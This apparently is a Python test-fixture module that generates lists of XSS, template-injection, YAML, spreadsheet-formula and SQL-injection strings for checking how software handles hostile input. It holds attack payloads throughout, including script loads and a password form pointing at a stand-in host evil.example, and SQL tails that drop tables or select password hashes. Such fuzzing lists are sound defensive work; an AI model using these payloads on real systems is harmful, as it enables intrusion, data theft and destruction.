"""Texts that try to be more than texts: 120 of markup and 150 of SQL.

for text in MARKUP: ...
"""

from __future__ import annotations

from typing import Final

_CALL = "alert(1)"
_TAGS = (
    "<script>{c}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{c}</script>", "<img src=x onerror={c}>", "<img/src='x'/onerror='{c}'>",
    "<svg onload={c}>", "<svg/onload={c}//", "<svg><script>{c}</script></svg>", "<body onload={c}>",
    "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>",
    "<object data=javascript:{c}>", "<embed src=//evil.example>", "<a href=javascript:{c}>x</a>",
    "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:{c}>x", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>", "<textarea></textarea><script>{c}",
    "<details open ontoggle={c}>", "<video><source onerror={c}>", "<audio src=x onerror={c}>",
    "<marquee onstart={c}>", "<math><mi xlink:href=javascript:{c}>",
    "<table background=javascript:{c}>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>",
    "<style>@import '//evil.example';</style>", "<style>*{{display:none}}",
    "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<plaintext>", "<xmp>", "<!-- ",
    "--><script>{c}</script>", "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?>",
    "<!doctype x>", "<title></title><script>{c}</script>", "<div hx-get=/logout>",
    "<div hx-on:click={c}>", "<div sse-connect=//evil.example>", "<div hx-ext=sse>", "<h1>x</h1>",
    "</p></div></main></body></html>", "</td></tr></table>", "</title>", "</textarea>",
    "</option></select>", "</script>", "</style>", "<dialog open>", "<slot name=x>",
    "<frameset onload={c}>", "<isindex type=image>",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover={c} x="', "' onmouseover={c} x='", '"><script>{c}</script>',
    "'><script>{c}</script>", '" autofocus onfocus={c} "', "` onmouseover={c} `",
    '" style="position:fixed" x="', '">', "'>", "x onerror={c}", '"/><img src=x onerror={c}>',
    '" formaction="javascript:{c}', "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:{c}", "//evil.example", "\\\\evil.example",
    "/%2f/evil.example",
)  # fmt: skip
_OTHERS = (
    "&lt;b&gt; &#60;i&#62; &amp;", "&#x3c;script&#x3e;", "&lt", "&#0;", "%3Cscript%3E",
    "\\u003cscript\\u003e", "\uff1cscript\uff1e", "{{7*7}}", "{{ ''.__class__ }}", "{% raw %}",
    "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s %(x)s %n", "\\", "\\\\",
    "\\'", "$x$", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)",
    "**b** _i_ ~~s~~ `c`", "``` x", "| a | b |", "# title", "- item", "---", "> quote",
    "https://evil.example/x", "key: value", "!!python/object:os.system", "*anchor &anchor",
    "=cmd|'/c calc'!A1", "@SUM(1)", "+1", "-1+1", "\u202eevil", "a\u200bb", "\ufeffx",
    "\u2066x\u2069", "\u2028x", "a\u0300\u0301\u0302",
)  # fmt: skip
MARKUP: Final = tuple(text.format(c=_CALL) for text in (*_TAGS, *_ATTRIBUTES)) + _OTHERS

_QUOTES = ("'", '"', "`", "')", '")', "'))", "\\'", "''", "%27", "\u2019")
_TAILS = (
    " OR 1=1 --", " OR '1'='1", "; DROP TABLE edit; --", "; DELETE FROM entry; --",
    " UNION SELECT name FROM sqlite_master --", " UNION SELECT password_hash FROM credential --",
    "; UPDATE token SET scope='edit'; --", " AND 1=(SELECT count(*) FROM session) --",
    "; ATTACH DATABASE '/x' AS x; --", " OR randomblob(1000000000) --",
    "; PRAGMA writable_schema=1; --", "/**/OR/**/1=1", " || (SELECT id FROM token) || ",
)  # fmt: skip
_PLAIN = (
    "%", "_", "%%%%%%", "______", "\\%", "[a-z]", "*", "?", ":id", ":n", "$1", "@x", "?1", "NULL",
    "0x27", "1; SELECT 1", "1 OR 1=1", "-- x", "/* x */", "#",
)  # fmt: skip
SQL: Final = (*(f"x{quote}{tail}" for quote in _QUOTES for tail in _TAILS), *_PLAIN)


def joined(texts: tuple[str, ...], size: int) -> tuple[str, ...]:
    """Several texts in one, where each by itself would take long."""
    return tuple(" ".join(texts[i : i + size]) for i in range(0, len(texts), size))
